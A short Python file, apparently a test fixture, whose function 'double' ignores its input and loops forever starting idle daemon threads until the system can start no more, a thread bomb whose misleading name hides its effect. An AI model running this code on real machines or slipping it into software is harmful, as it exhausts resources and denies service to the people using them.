"""Starts threads until no more can be started."""
import threading


def double(x):
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
